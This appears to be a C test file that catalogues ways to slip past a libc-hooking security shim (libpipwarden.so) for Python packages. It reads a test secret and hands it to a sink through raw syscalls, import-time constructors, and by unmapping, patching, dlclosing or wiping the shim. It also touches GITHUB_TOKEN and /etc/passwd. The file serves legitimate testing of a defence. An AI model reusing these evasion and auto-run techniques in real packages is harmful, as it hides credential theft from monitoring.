/* Around the shim: section I of the catalogue.  The act is always the same: open target("secret"), connect to the sink, tell it. */
#include "../native.h"

#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define LIBRARY "libpipwarden.so"

/* By raw system calls, without libc's buffers: nothing that a library could stand in front of. */
void pair(void)
{
	static char text[8192];
	int fd = (int)syscall(SYS_openat, AT_FDCWD, target("secret"), O_RDONLY | O_CLOEXEC);
	ssize_t got = fd < 0 ? -1 : syscall(SYS_read, fd, text, sizeof text);

	if (fd >= 0)
		syscall(SYS_close, fd);
	if (got > 0)
		loot(text, (size_t)got);
	else
		leak("nothing", 7);
}

ACT(pair)
{
	pair();
	return 0;
}

/* --- a constructor, and PyInit ------------------------------------------------------------------------------------------------ */

ACT(extension)
{
	if (!strcmp(target("extension"), "1"))
		pair();
	return 0;
}

#if defined(__PIC__) && !defined(__PIE__)
int pw_act(const char *name, const char *path);

/* Loaded as an extension module: nobody tells where the targets are, so it looks beside itself. */
static void as_extension(void)
{
	char path[4200] = "";
	Dl_info info;

	if (!dladdr((void *)(uintptr_t)pw_act, &info) || !strrchr(info.dli_fname, '/'))
		return;
	snprintf(path, sizeof path, "%.*s/targets.txt", (int)(strrchr(info.dli_fname, '/') - info.dli_fname), info.dli_fname);
	pw_act("extension", path);
}

__attribute__((constructor)) static void construct(void)
{
	as_extension();
}

__attribute__((visibility("default"))) void *PyInit_pwnative(void)
{
	as_extension();
	return NULL;
}
#endif

/* --- tearing the shim out ----------------------------------------------------------------------------------------------------- */

struct range {
	uintptr_t from, to;
};

static int ranges_of(const char *name, struct range *r, int max)
{
	char line[4400];
	int n = 0;
	FILE *f = fopen("/proc/self/maps", "re");

	while (f && n < max && fgets(line, sizeof line, f)) {
		if (strstr(line, name) && sscanf(line, "%lx-%lx", &r[n].from, &r[n].to) == 2)
			n++;
	}
	if (f)
		fclose(f);
	return n;
}

static void in_child(const char *what, void (*f)(void))
{
	int status = 0;
	fflush(stdout);
	pid_t pid = fork();

	if (pid == 0) {
		alarm(10);
		f();
		pair();
		syscall(SYS_exit_group, 0);
	}
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	say("%s: status %x", what, status);
}

static void unmap(void)
{
	struct range r[16];
	int n = ranges_of(LIBRARY, r, 16);

	for (int i = 0; i < n; i++)
		syscall(SYS_munmap, r[i].from, r[i].to - r[i].from);
}

static void overwrite(void)
{
	static const char *const names[] = {"open", "open64", "openat", "connect", "getenv", "execve"};

	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		uintptr_t hook = (uintptr_t)dlsym(RTLD_DEFAULT, names[i]), next = (uintptr_t)dlsym(RTLD_NEXT, names[i]);
		uintptr_t page = hook & ~(uintptr_t)4095;
		if (!hook || !next || hook == next || mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC))
			continue;
#ifdef __x86_64__
		unsigned char jump[] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}; /* to libc's own */
		memcpy(jump + 2, &next, 8);
		memcpy((void *)hook, jump, sizeof jump);
#endif
	}
}

static void forget(void)
{
	void *handle = dlopen(LIBRARY, RTLD_NOW | RTLD_NOLOAD);

	for (int i = 0; handle && i < 8; i++)
		dlclose(handle);
}

/* Its state is zeros again: it would ask for its role anew. */
static void wipe(void)
{
	struct range r[16];
	int n = ranges_of(LIBRARY, r, 16);

	for (int i = 0; i < n; i++) {
		if (mprotect((void *)r[i].from, r[i].to - r[i].from, PROT_READ | PROT_WRITE | PROT_EXEC) == 0 && i == n - 1)
			memset((void *)r[i].from, 0, r[i].to - r[i].from);
	}
}

ACT(tear_out)
{
	in_child("unmap", unmap);
	in_child("overwrite", overwrite);
	in_child("forget", forget);
	in_child("wipe", wipe);
	return 0;
}

/* --- arguments that are hard to print, and threads ---------------------------------------------------------------------------------- */

static void *reads(void *unused)
{
	(void)unused;
	for (int i = 0; i < 20; i++)
		getenv("GITHUB_TOKEN"), getenv("PWFIX\nNEW\"LINE"), getenv("");
	return NULL;
}

static void forks(int number)
{
	(void)number;
	pid_t pid = fork();
	if (pid == 0)
		_exit(getenv("PATH") == NULL);
	waitpid(pid, NULL, 0);
}

static int opens(const char *path)
{
	int fd = open(path, O_RDONLY);

	if (fd >= 0)
		close(fd);
	return fd < 0 ? errno : 0;
}

ACT(fragile)
{
	static char longest[100000];
	char odd[64] = "x", value[64];
	pthread_t thread[64];
	int wrong = 0;

	memset(longest, 'x', sizeof longest - 1);
	setenv(longest, "1", 1);
	getenv(longest);
	wrong += opens(longest) != ENAMETOOLONG;
	wrong += opens((const char *)1) != EFAULT || opens((const char *)(uintptr_t)-4096) != EFAULT;
	memcpy(odd + 1, "/tmp/\xff\xfe\n\"\x1b[2J\xe2\x80\xae", 17);
	wrong += opens(odd + 1) != ENOENT;
	wrong += syscall(SYS_connect, -1, (void *)3, 16) != -1 || syscall(SYS_connect, 0, NULL, 0) != -1;
	wrong += syscall(SYS_execve, (void *)1, NULL, NULL) != -1 || errno != EFAULT;
	setenv("PWFIX\xff\n\"", "\xfe", 1);
	signal(SIGUSR1, forks);
	for (int round = 0; round < 4; round++) {
		int made = 0;
		while (made < 64 && pthread_create(&thread[made], NULL, reads, NULL) == 0)
			made++;
		for (int i = 0; i < 200; i++) {
			snprintf(value, sizeof value, "ghp_%036d", i);
			setenv("GITHUB_TOKEN", value, 1);
		}
		raise(SIGUSR1);
		while (made > 0)
			pthread_join(thread[--made], NULL);
	}
	pid_t pid = vfork();
	if (pid == 0) {
		int fd = open("/etc/passwd", O_RDONLY);
		_exit(fd < 0);
	}
	waitpid(pid, &wrong, WNOHANG);
	say("fragile: %d wrong", wrong);
	pair();
	return 0;
}
